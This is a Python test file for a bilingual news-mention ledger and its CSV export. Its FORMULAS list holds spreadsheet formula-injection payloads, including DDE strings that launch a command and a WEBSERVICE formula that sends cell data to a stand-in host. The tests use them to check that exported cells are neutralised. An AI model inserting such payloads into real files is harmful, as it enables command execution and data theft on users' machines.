"""The ledger: what a figure counted, what it did not, and the file a reader takes away."""

import csv
import io
import tomllib
from dataclasses import replace
from pathlib import Path

import pytest

from components.ledger import payload
from ladoalado import correcting, ledger, senses, tallies
from ladoalado.ledger import Entry, Ledger
from ladoalado.mentions import Candidate
from tests.gold import gold_reading, without

READING = gold_reading()
COUNTS = tallies.count(READING)
WORDS = tomllib.loads((Path(__file__).parents[1] / "components/ledger/words.toml").read_text("utf-8"))

# From the hostile texts: formulas, their disguises, and news that only looks like one.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "＝1+1", "－1+1", '=WEBSERVICE("http://canary.invalid/"&A1)', "a,=1+1", "a;=1+1", "x\r\n@SUM(A1)", "|=1+1",
    "%0A=1+1", "\u00a0=1+1", "\x00=1+1", "+55 11 99999-0000", "= Título wiki =", 'a";=1+1', "\u200b=1+1", "-2",
]  # fmt: skip
TRIGGERS = "=+-@＝＋－＠"


def candidate(sentence: int, word: str, actor: str, reason: str) -> Candidate:
    start = READING.article.text.index(word, READING.pairs[sentence].sentence.start)
    return Candidate(sentence, "source", start, start + len(word), word, actor, reason)


@pytest.mark.parametrize("actor", list(COUNTS))
@pytest.mark.parametrize("rolled_up", [False, True])
def test_the_ledger_is_as_long_as_the_bar(actor: str, rolled_up: bool):
    found = ledger.entries(READING, actors=[actor], rolled_up=rolled_up)
    tally = COUNTS[actor]
    assert len(found.on("source")) == (tally.rolled_up if rolled_up else tally.own)
    assert len(found.on("target")) == (tally.rolled_target if rolled_up else tally.target)


def test_several_actors_of_one_family_are_listed_once():
    found = ledger.entries(READING, actors=["meta", "llama_2"], side="source", rolled_up=True)
    assert len(found.counted) == COUNTS["meta"].rolled_up


def test_spans_run_into_the_texts_that_the_entry_carries():
    for entry in ledger.entries(READING, actors=list(COUNTS)).counted:
        text, span = {
            "source": (entry.source_text, entry.source_span), "target": (entry.target_text, entry.target_span)
        }[entry.side]  # fmt: skip
        assert span is not None
        assert text[slice(*span)] == entry.text


def test_both_sides_of_a_pair_are_marked():
    entry = ledger.entries(READING, actors=["chinese_state"], side="source").counted[0]
    assert entry.target_span is not None
    assert (entry.text, entry.target_text[slice(*entry.target_span)]) == ("Estado chinês", "Chinese state")


def test_an_entry_without_partner_says_so_by_its_missing_span():
    lost = next(m.id for m in READING.mentions if m.actor == "tongyi" and m.side == "target")
    entry = ledger.entries(without(READING, lost), actors=["tongyi"]).counted[0]
    assert (entry.side, entry.target_span) == ("source", None)


def test_a_sentence_narrows_the_ledger():
    found = ledger.entries(READING, actors=["alibaba_cloud"], side="source", sentence=1)
    assert [entry.text for entry in found.counted] == ["Alibaba Cloud", "Alibaba Cloud"]
    assert ledger.entries(READING, actors=["alibaba_cloud"], sentence=2).counted == ()


@pytest.mark.parametrize("rolled_up", [False, True])
def test_with_another_actor_the_sentences_are_those_of_the_circle(rolled_up: bool):
    table = tallies.together(READING, rolled_up=rolled_up)
    for (a, b), rows in table.groupby(["actor", "other"]):
        found = ledger.entries(READING, actors=[a], with_actor=b, side="source", rolled_up=rolled_up)
        assert found.sentences == tuple(sorted(set(rows["sentence"])))


def test_nobody_is_beside_itself():
    assert ledger.entries(READING, actors=["meta"], with_actor="meta").counted == ()
    assert ledger.entries(READING, actors=["meta"], with_actor="llama_2", rolled_up=True).counted == ()


def test_rejected_candidates_of_the_same_actors_are_listed_with_their_reason():
    rejected = (candidate(2, "adoção", "meta", "lower-case"), candidate(2, "facto", "china", "language"))
    reading = replace(READING, rejected=rejected)
    found = ledger.entries(reading, actors=["meta"])
    assert [(e.text, e.reason, e.mention, e.kind) for e in found.rejected] == [("adoção", "lower-case", None, None)]
    entry = found.rejected[0]
    assert entry.source_span is not None
    assert entry.source_text[slice(*entry.source_span)] == "adoção"


def test_a_kind_that_is_switched_off_moves_its_mentions_to_the_rejected():
    found = ledger.entries(READING, actors=["china"], side="source", kinds=["name"])
    assert (len(found.counted), len(found.rejected)) == (5, 4)
    assert {(e.kind, e.reason) for e in found.rejected} == {("adjective", "kind-off")}


@pytest.mark.parametrize("actors", [[], ["nobody"]])
def test_nobody_has_an_empty_ledger(actors: list[str]):
    assert ledger.entries(READING, actors=actors, rolled_up=True) == Ledger()


def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_the_file_parses_back_to_what_the_ledger_says():
    found = ledger.entries(READING, actors=["china"], kinds=["name"], rolled_up=True)
    data = ledger.to_csv(found, names={"china": "República Popular; China"})
    rows = parsed(data)
    assert data.startswith(b"\xef\xbb\xbf")
    assert tuple(rows[0]) == ledger.COLUMNS
    assert len(rows) == 1 + len(found.counted) + len(found.rejected)
    assert {row[2] for row in rows[1:]} >= {"República Popular; China"}
    entry, row = found.counted[0], rows[1]
    assert row == [str(entry.sentence + 1), entry.side, "República Popular; China", entry.text, "name", "yes", "alias",
                   "sure", "", entry.source_text, entry.target_text, entry.mention]  # fmt: skip


def entry(text: str) -> Entry:
    return Entry(0, text, text, "source", None, None, text, text, "name", text, text)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_can_act_as_a_formula_whatever_separator_opens_the_file(text: str, delimiter: str):
    for row in parsed(ledger.to_csv(Ledger((entry(text),))), delimiter):
        for cell in row:
            for line in cell.splitlines() or [""]:
                assert not line.lstrip("\u200b").lstrip().startswith(tuple(TRIGGERS)), cell
            assert not cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_neutralised_cell_keeps_every_character_it_had(text: str):
    safe = parsed(ledger.csv_bytes(["text"], [[text]]))[1][0]
    without_quotes = safe.replace("'", "")
    assert without_quotes == text.replace("\x00", "").replace("'", "")


@pytest.mark.parametrize("text", ["A Meta", "não - disse", "a = b", "e-mail@jornal.pt", "“=”", "R$ 5; US$ 1", ""])
def test_ordinary_text_is_left_as_it_is(text: str):
    assert ledger.harmless(text) == text


def test_a_lone_surrogate_does_not_break_the_file():
    assert ledger.csv_bytes(["text"], [["a\ud800b"]]).decode("utf-8-sig").splitlines()[1] == "a?b"


def test_the_table_of_counts_is_a_file_too():
    rows = parsed(ledger.tallies_csv(COUNTS.values(), names={"meta": "=Meta"}))
    meta = next(row for row in rows if row[0] == "meta")
    assert meta == ["meta", "'=Meta", "8", "19", "8", "0", "0", "8", "8", "19"]


def test_the_browser_gets_texts_cut_at_the_mention():
    found = ledger.entries(READING, actors=["us_congress"])
    data = payload(found, reading=READING, language="pt", link=lambda e: f"./?mention={e.mention}")
    lines = data["counted"]
    assert isinstance(lines, list)
    assert len(lines) == 1, "the two mentions of a pair share a line"
    assert lines[0]["source"][1:] == ["Congresso dos EUA", "."]
    assert lines[0]["target"][1] == "US Congress"
    assert lines[0]["actor"] == "Congresso dos EUA"
    assert lines[0]["href"] == f"./?mention={found.counted[0].mention}"


def test_a_line_without_partner_says_so_in_words():
    lost = next(m.id for m in READING.mentions if m.actor == "tongyi" and m.side == "target")
    reading = without(READING, lost)
    data = payload(ledger.entries(reading, actors=["tongyi"]), reading=reading, language="en", link=lambda e: "./")
    assert data["counted"][0]["note"] == WORDS["en"]["no_target"]  # type: ignore[index]


def test_both_languages_have_the_same_words():
    assert WORDS["en"].keys() == WORDS["pt"].keys()
    assert all(text.strip() for table in WORDS.values() for text in table.values())


@pytest.mark.parametrize("code", [*senses.REASONS, *correcting.REASONS, ledger.KIND_OFF, "alias"])
def test_every_reason_has_words(code: str):
    assert f"reason_{code}" in WORDS["en"]
